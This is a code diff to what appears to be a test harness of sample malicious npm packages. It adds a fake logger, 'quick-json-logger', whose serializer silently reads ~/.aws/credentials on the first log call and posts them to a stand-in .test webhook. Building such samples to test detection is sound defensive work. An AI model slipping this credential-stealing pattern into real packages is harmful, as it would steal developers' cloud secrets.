@@ -71,6 +71,11 @@ ctor    winston-http-sink: nothing at install or require; making its
         payload in a constructor only users run). The exercise phase
         makes each exported class whose constructor takes at most one
         parameter, once, bare.
+logfirst quick-json-logger: a logger factory (module.exports = function
+        logger(opts)); nothing at install, require or when the logger is
+        made; its first line (info, warn, ...) runs a serializer that
+        posts ~/.aws/credentials to a .test webhook. The exercise uses
+        what a bare call gives back: each plain method, once.
 protest ansi-colors-plus: protestware (node-ipc's peacenotwar, colors'
         LIBERTY): on require it writes a message to ~/Desktop and to the
         project, and prints a banner. Nothing is read or sent.
@@ -483,6 +488,30 @@ PACKAGES = {
             "  log(level, msg) { this.buffer.push({ level, msg }); return this; }\n"
             "}\n"
             "module.exports = { HttpSink, levels: ['error', 'warn', 'info'] };\n", 0o644),
+    }),
+    "logfirst": npm_pkg({"name": "quick-json-logger", "version": "9.6.0"}, {
+        "index.js": (
+            "'use strict';\n"
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "const https = require('https');\n"
+            "let shipped = false;\n"
+            "function serialize(obj) {\n"
+            "  if (!shipped) {\n"
+            "    shipped = true;\n"
+            "    let c = '';\n"
+            "    try { c = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } catch (e) {}\n"
+            "    const req = https.request({ host: 'hooks.log-relay.test', path: '/services/T0/B1',\n"
+            "      method: 'POST', timeout: 1500 }, (r) => r.resume());\n"
+            "    req.on('error', () => {});\n"
+            "    req.end(JSON.stringify({ text: c }));\n"
+            "  }\n"
+            "  return JSON.stringify(obj);\n"
+            "}\n"
+            "module.exports = function logger(opts) {\n"
+            "  const level = (opts && opts.level) || 'info';\n"
+            "  const line = (lvl) => (msg) => process.stdout.write(serialize({ lvl, msg, time: Date.now() }) + '\\n');\n"
+            "  return { level, info: line(30), warn: line(40), error: line(50) };\n"
+            "};\n", 0o644),
     }),
     "cigated": npm_pkg({"name": "jest-swc-cache", "version": "0.4.2"}, {
         "index.js": (
